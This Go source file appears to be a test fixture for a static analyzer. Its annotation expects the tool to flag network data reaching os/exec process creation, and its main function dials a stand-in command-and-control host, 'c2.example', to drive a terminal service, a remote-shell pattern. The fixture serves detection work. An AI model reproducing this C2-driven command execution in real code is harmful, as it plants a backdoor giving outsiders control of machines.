package main // want package:"hub contents" `remote-command/process-from-network: Data received from the network by net.Conn.Read reaches process creation \(run by os/exec.Command\) in Service.Run. \(at terminal.go:11\)`

// The main package wires the terminal into the handler: the call through the interface in
// handler runs terminal's Run, which only this package sees both sides of.

import (
	"net"

	"wiring/handler"
	"wiring/services"
	"wiring/terminal"
)

func main() {
	c, _ := net.Dial("tcp", "c2.example:443")
	h := &handler.Handler{Conn: c, Services: &services.Services{Terminal: terminal.Service{}}}
	h.Loop()
}
